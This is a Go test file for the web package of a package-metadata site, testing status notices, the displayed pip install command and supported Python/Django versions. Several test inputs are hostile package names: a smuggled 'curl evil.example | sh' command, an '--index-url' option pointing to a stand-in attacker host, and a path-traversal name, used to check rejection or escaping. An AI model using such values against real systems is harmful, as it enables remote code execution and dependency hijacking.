package web

import (
	"bytes"
	"slices"
	"strings"
	"testing"
	"time"

	"pkgmetad/internal/record"
)

func TestNotices(t *testing.T) {
	gone := func(s record.State, replaced bool, last time.Time) record.Status {
		return record.Status{State: s, Replaced: replaced, LastSuccess: last, LastAttempt: now}
	}
	standing := func(status string, s record.State) record.Package {
		return record.Package{Project: record.Project{Standing: record.Standing{Status: status, Reason: "a reason"}}, PyPI: gone(s, false, ago(time.Hour))}
	}
	for name, test := range map[string]struct {
		rec  record.Package
		tags []string
		says string
	}{
		"alive":            {record.Package{GitHub: gone(record.StateOK, false, now), PyPI: gone(record.StateOK, false, now), Project: record.Project{Standing: record.Standing{Status: record.ProjectActive}}}, nil, ""},
		"failed":           {record.Package{GitHub: gone(record.StateFailed, false, now), PyPI: gone(record.StateFailed, false, now)}, nil, ""},
		"nothing is known": {record.Package{}, nil, ""},
		"gone":             {record.Package{GitHub: gone(record.StateGone, false, ago(49*time.Hour))}, []string{"gone"}, `deleted, or made private. What is shown of it is from <time datetime="2026-02-14T13:45:10&#43;01:00" title="2026-02-14 13:45:10 CET">2 days ago</time>.`},
		"never there":      {record.Package{GitHub: gone(record.StateGone, false, time.Time{})}, []string{"not found"}, "Nothing was fetched so far."},
		"replaced":         {record.Package{GitHub: gone(record.StateGone, true, ago(time.Hour))}, []string{"another repository"}, "What is shown is the former one, from <time"},
		"taken down":       {record.Package{GitHub: gone(record.StateBlocked, false, ago(time.Hour))}, []string{"taken down"}, "GitHub has taken the repository down. What is shown of it is from <time"},
		"archived":         {record.Package{Repo: record.Repo{Archived: true}}, []string{"archived"}, "read-only"},
		"renamed":          {record.Package{RepoKey: "github.com/a/b", Repo: record.Repo{Name: "Org/New.name"}}, []string{"renamed"}, `is now called <a href="https://github.com/Org/New.name" rel="nofollow noopener">Org/New.name</a>.`},
		"in another case":  {record.Package{RepoKey: "github.com/a/b", Repo: record.Repo{Name: "A/B"}}, nil, ""},
		"hostile name":     {record.Package{RepoKey: "github.com/a/b", Repo: record.Repo{Name: "x/../../evil"}}, []string{"renamed"}, "is now called <bdi>x/../../evil</bdi>."},
		"quarantined":      {standing(record.ProjectQuarantined, record.StateGone), []string{"quarantined"}, `do not install it. The reason given: <q dir="auto">a reason</q>`},
		"withheld":         {standing(record.ProjectQuarantined, record.StateBlocked), []string{"quarantined"}, "harmful"},
		"deprecated":       {standing(record.ProjectDeprecated, record.StateOK), []string{"deprecated"}, "obsolete"},
		"archived project": {standing(record.ProjectArchived, record.StateOK), []string{"archived on PyPI"}, "no further releases"},
		"a later status":   {standing("sold", record.StateOK), []string{"sold"}, "this status"},
		"project gone":     {standing("", record.StateGone), []string{"gone from PyPI"}, "cannot be installed"},
		"no project":       {record.Package{PyPI: gone(record.StateGone, false, time.Time{})}, []string{"not on PyPI"}, "finds no project"},
		"project blocked":  {standing("", record.StateBlocked), []string{"taken down"}, "PyPI has taken"},
		"yanked":           {record.Package{Project: record.Project{Version: new("2.0"), Versions: []record.Version{{Version: "2.0", Yanked: true}}}}, []string{"yanked"}, "The latest version, 2.0, was withdrawn"},
		"several": {record.Package{RepoKey: "github.com/a/b", Repo: record.Repo{Archived: true, Name: "c/d"}, Project: record.Project{Standing: record.Standing{Status: record.ProjectDeprecated}}, PyPI: gone(record.StateGone, false, now)},
			[]string{"archived", "renamed", "deprecated", "gone from PyPI"}, ""},
	} {
		p := PackagePage{Clock: clock, Record: test.rec}
		var tags []string
		for _, n := range p.Notices() {
			tags = append(tags, n.Tag)
		}
		if !slices.Equal(tags, test.tags) {
			t.Errorf("%s: %q, want %q", name, tags, test.tags)
		}
		var b bytes.Buffer
		if err := Package(&b, Frame{}, p); err != nil {
			t.Fatal(err)
		}
		page := b.String()
		if !strings.Contains(page, test.says) || strings.Contains(page, `class="notices"`) != (len(test.tags) > 0) {
			t.Errorf("%s: the page does not say %q, or has no notices, or some:\n%s", name, test.says, page)
		}
	}
}

func TestInstall(t *testing.T) {
	uploaded := ago(time.Hour)
	project := func(edit func(*record.Package)) record.Package {
		rec := record.Package{
			ProjectKey: "pypi:tide-forms", PyPI: record.Status{State: record.StateOK},
			Project: record.Project{Name: "Tide_Forms", Version: new("1.0"), Versions: []record.Version{{Version: "1.0", Uploaded: &uploaded}}},
		}
		edit(&rec)
		return rec
	}
	const command = "python -m pip install Tide_Forms"
	for name, test := range map[string]struct {
		edit func(*record.Package)
		want string
	}{
		"a project":               {func(*record.Package) {}, command},
		"the last attempt failed": {func(p *record.Package) { p.PyPI.State = record.StateFailed }, command},
		"a pre-release":           {func(p *record.Package) { p.Project.Version, p.Project.Versions[0].Version = new("1.0a1"), "1.0a1" }, command},
		"imported":                {func(p *record.Package) { p.Project = record.Project{Version: new("1.0")} }, "python -m pip install tide-forms"},
		"no project":              {func(p *record.Package) { *p = record.Package{} }, ""},
		"never answered":          {func(p *record.Package) { p.Project = record.Project{} }, ""},
		"gone":                    {func(p *record.Package) { p.PyPI.State = record.StateGone }, ""},
		"taken down":              {func(p *record.Package) { p.PyPI.State = record.StateBlocked }, ""},
		"quarantined":             {func(p *record.Package) { p.Project.Standing.Status = record.ProjectQuarantined }, ""},
		"all yanked":              {func(p *record.Package) { p.Project.Versions[0].Yanked = true }, ""},
		"no files":                {func(p *record.Package) { p.Project.Versions[0].Uploaded = nil }, ""},
		"an option":               {func(p *record.Package) { p.Project.Name = "--index-url=https://evil.example" }, ""},
		"a command":               {func(p *record.Package) { p.Project.Name = "a; curl evil.example | sh" }, ""},
		"two lines":               {func(p *record.Package) { p.Project.Name = "a\nb" }, ""},
	} {
		if got := (PackagePage{Record: project(test.edit)}).Install(); got != test.want {
			t.Errorf("%s: %q, want %q", name, got, test.want)
		}
	}
	if page := samples(t)["package"]; !strings.Contains(page, "<code>python -m pip install django-crispy-forms</code>") {
		t.Error("the page lacks the command")
	}
}

func TestVersionsThatItRunsWith(t *testing.T) {
	for _, test := range []struct {
		p              record.Project
		python, django string
	}{
		{record.Project{}, "", ""},
		{record.Project{Python3: new(true)}, "3", ""},
		{record.Project{Python3: new(false)}, "2 only", ""},
		{record.Project{Python3: new(true), Support: &record.Support{}}, "3", ""},
		{record.Project{Support: &record.Support{Python: []string{"2", "2.7", "3", "3.10", "31"}, Django: []string{"3", "4.2", "10"}}}, "2.7, 3.10, 31", "3, 4.2, 10"},
	} {
		p := PackagePage{Record: record.Package{Project: test.p}}
		if p.Pythons() != test.python || p.Djangos() != test.django {
			t.Errorf("%+v: Python %q, Django %q", test.p, p.Pythons(), p.Djangos())
		}
	}
}
